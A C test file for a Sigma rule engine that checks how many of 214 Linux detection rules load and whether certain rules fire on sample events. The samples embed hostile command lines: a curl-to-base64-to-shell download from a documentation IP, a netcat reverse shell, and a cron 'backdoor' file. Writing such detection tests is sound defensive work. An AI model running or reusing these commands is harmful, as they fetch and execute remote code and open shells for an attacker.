/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Loads every rule of the shared Sigma corpus ($VIGIL_SHARED_DIR/sigma-corpus: 214 public
 * Linux rules under their authors' licence, never copied here) and prints, per log source, how
 * many load.  Every process_creation, network_connection, file_event and auditd rule must load
 * or be refused with a precise reason, and the figures may not fall below the floors recorded
 * here (raise them when the engine gets better; never lower them).  Then a few behaviours are
 * checked against the whole corpus.  Without the corpus the test fails under CI=true and
 * otherwise says plainly that it did not run.
 */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <jansson.h>

#include "vigil/error.h"
#include "vigil/sigma.h"

static const struct {
	const char *source;
	size_t total;
	size_t floor;      /* rules that must load; may only grow */
} figures[] = {
	{ "process_creation", 124, 124 },
	{ "file_event", 10, 10 },
	{ "network_connection", 5, 5 },
	{ "auditd", 53, 53 },
};

static int n;
static int failures;

static void ok(bool cond, const char *what)
{
	printf("%sok %d - %s\n", cond ? "" : "not ", ++n, what);
	failures += !cond;
}

static const char *source_of(const struct vg_sigma_rule_info *in)
{
	return *in->service ? in->service : *in->category ? in->category : in->product;
}

/* Events that real behaviours produce, and a rule of the corpus each must fire. */
static const struct {
	const char *event;
	const char *title;
} behaviours[] = {
	{ "{'class_uid':1007,'activity_id':1,'process':{'cmd_line':'sh -c curl http://203.0.113.9/x | base64 -d | sh',"
	  "'file':{'path':'/usr/bin/dash'}}}", "Linux Base64 Encoded Pipe to Shell" },
	{ "{'class_uid':1007,'activity_id':1,'process':{'cmd_line':'nc -e /bin/sh 203.0.113.9 4444',"
	  "'file':{'path':'/usr/bin/nc'}}}", "Potential Netcat Reverse Shell Execution" },
	{ "{'class_uid':1007,'activity_id':1,'process':{'cmd_line':'chmod +x /tmp/payload','file':{'path':'/usr/bin/chmod'}}}",
	  "Chmod Targeting Sensitive Directories" },
	{ "{'class_uid':1001,'activity_id':1,'actor':{'process':{'file':{'path':'/usr/bin/cp'}}},"
	  "'file':{'path':'/etc/cron.d/backdoor'}}", "New Cron File Created" },
	{ "{'class_uid':1007,'activity_id':1,'unmapped':{'audit':[{'type':'SYSCALL','SYSCALL':'execve',"
	  "'exe':'/tmp/payload/x'}]}}", "Program Executions in Suspicious Folders" },
	{ "{'class_uid':1007,'activity_id':1,'unmapped':{'audit':[{'type':'EXECVE','argc':'3','a0':'dd',"
	  "'a1':'if=/dev/zero','a2':'bs=1M'}]}}", "Binary Padding - Linux" },
};

static bool fires(struct vg_sigma_matcher *m, const char *event, const char *title)
{
	char *text = strdup(event);
	json_t *j;
	int k;
	bool hit = false;

	for (char *p = text; *p; p++)
		if (*p == '\'')
			*p = '"';
	j = json_loads(text, 0, NULL);
	free(text);
	if (!j)
		return false;
	k = vg_sigma_matcher_eval_ocsf(m, j, 1, 0);
	for (int i = 0; i < k; i++)
		if (strcmp(vg_sigma_rule_info(vg_sigma_matcher_match(m, (size_t)i)->rule)->title, title) == 0)
			hit = true;
	json_decref(j);
	return hit;
}

int main(void)
{
	const char *shared = getenv("VIGIL_SHARED_DIR");
	char dir[4096], what[256];
	struct stat st;
	struct vg_sigma_set *set;
	struct vg_sigma_matcher *m;
	struct vg_error err;
	size_t loaded[4] = { 0 }, refused[4] = { 0 }, other_loaded = 0, other_refused = 0, unsupported = 0;
	bool reasons_ok = true;

	snprintf(dir, sizeof(dir), "%s/sigma-corpus", shared ? shared : "../shared");
	if (stat(dir, &st) < 0 || !S_ISDIR(st.st_mode)) {
		/* A test that cannot run fails: a skip would pass unseen. */
		printf("1..1\nnot ok 1 - the Sigma corpus is missing at %s (set VIGIL_SHARED_DIR)\n", dir);
		return 1;
	}
	if (vg_sigma_set_new(NULL, &set) < 0 || vg_sigma_set_add_dir(set, dir, &err) < 0 ||
	    vg_sigma_set_compile(set, &err) < 0) {
		printf("1..1\nnot ok 1 - loading %s: %s\n", dir, err.message);
		return 1;
	}
	for (size_t i = 0; i < vg_sigma_set_rule_count(set); i++) {
		const char *src = source_of(vg_sigma_rule_info(vg_sigma_set_rule(set, i)));
		size_t k;

		for (k = 0; k < 4 && strcmp(figures[k].source, src) != 0; k++)
			;
		if (k < 4)
			loaded[k]++;
		else
			other_loaded++;
	}
	for (size_t i = 0; i < vg_sigma_set_reject_count(set); i++) {
		const struct vg_sigma_reject *rj = vg_sigma_set_reject(set, i);
		size_t k;

		for (k = 0; k < 4 && strcmp(figures[k].source, rj->source_name) != 0; k++)
			;
		if (k < 4)
			refused[k]++;
		else
			other_refused++;
		unsupported += rj->unsupported_source;
		/* A precise reason: the file, a line and column, and words after them. */
		if (!rj->line || !rj->column || !*rj->error.message || !strstr(rj->error.message, ".yml:"))
			reasons_ok = false;
		printf("# refused: %s\n", rj->error.message + (strncmp(rj->error.message, dir, strlen(dir)) ? 0 : strlen(dir) + 1));
	}
	printf("1..%zu\n", sizeof(figures) / sizeof(figures[0]) * 2 + 4 + sizeof(behaviours) / sizeof(behaviours[0]));
	for (size_t k = 0; k < 4; k++) {
		printf("# %s: %zu/%zu loaded\n", figures[k].source, loaded[k], loaded[k] + refused[k]);
		snprintf(what, sizeof(what), "%s: the %zu rules are all read (%zu loaded, %zu refused with a reason)",
			 figures[k].source, figures[k].total, loaded[k], refused[k]);
		ok(loaded[k] + refused[k] == figures[k].total, what);
		snprintf(what, sizeof(what), "%s: at least %zu rules load (floor)", figures[k].source, figures[k].floor);
		ok(loaded[k] >= figures[k].floor, what);
	}
	printf("# other log sources: %zu/%zu loaded (%zu refused: the agent has no such events)\n", other_loaded,
	       other_loaded + other_refused, unsupported);
	ok(vg_sigma_set_rule_count(set) + vg_sigma_set_reject_total(set) == 214, "all 214 rules of the corpus are read");
	ok(reasons_ok, "every refusal names its file, line and column and says why");
	ok(unsupported == other_refused, "the rules of other log sources are refused for their source, nothing else");
	if (vg_sigma_matcher_new(set, &m) < 0) {
		ok(false, "a matcher over the whole corpus");
		return 1;
	}
	ok(true, "a matcher over the whole corpus");
	for (size_t i = 0; i < sizeof(behaviours) / sizeof(behaviours[0]); i++) {
		snprintf(what, sizeof(what), "the corpus rule \"%s\" fires on its behaviour", behaviours[i].title);
		ok(fires(m, behaviours[i].event, behaviours[i].title), what);
	}
	vg_sigma_matcher_free(m);
	vg_sigma_set_free(set);
	return failures ? 1 : 0;
}
